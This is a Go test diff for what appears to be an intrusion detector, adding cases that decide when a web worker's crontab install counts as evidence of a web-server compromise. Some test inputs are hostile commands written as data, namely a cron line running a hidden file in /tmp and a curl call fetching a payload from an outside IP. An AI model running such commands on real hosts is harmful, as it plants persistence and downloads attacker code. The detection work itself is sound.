@@ -60,3 +60,42 @@ func TestAppCrontabNeedsItsChain(t *testing.T) {
 		})
 	}
 }
+
+// TestShippedCrontab: the worker's shell installing the account's crontab
+// from a file of the site's served tree that no record shows written
+// during the log, running nothing but crontab and filters of its listing
+// (a release endpoint installing the release's table), needs its chain to
+// show intent. A table the command writes, one outside the served tree,
+// one the web side wrote during the log, or anything else in the command
+// shows intent by itself.
+func TestShippedCrontab(t *testing.T) {
+	const table = "/var/www/html/deploy/www-data.cron"
+	for _, c := range []struct {
+		name    string
+		cmd     string
+		written bool // the worker wrote the table before
+		weak    bool
+	}{
+		{"a release's table", "crontab '" + table + "' 2>&1 && crontab -l 2>&1 | grep -v \"^#\"", false, true},
+		{"relative to the shell's folder", "crontab deploy/www-data.cron", false, true},
+		{"written by the web side during the log", "crontab " + table, true, false},
+		{"written by the command", "echo '* * * * * /tmp/.x' > " + table + " && crontab " + table, false, false},
+		{"outside the served tree", "crontab /var/tmp/c", false, false},
+		{"beside another act", "crontab " + table + "; curl -s http://203.0.113.9/x -o /tmp/x", false, false},
+		{"in the background", "crontab " + table + " &", false, false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e, s := webShellScene(t)
+			if c.written {
+				observeWrite(e, s, 200, 1, 33, "/usr/sbin/php-fpm8.2", table, true)
+			}
+			f := findingOf(e.Observe(s.exec(202, 200, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree), "web-server-exploitation")
+			if f == nil {
+				t.Fatal("no web-server-exploitation finding")
+			}
+			if weak := f.NeedsCorroboration && f.Shows == ShowsShippedSchedule; weak != c.weak {
+				t.Errorf("needs its chain: %v (shows %q), want %v", f.NeedsCorroboration, f.Shows, c.weak)
+			}
+		})
+	}
+}
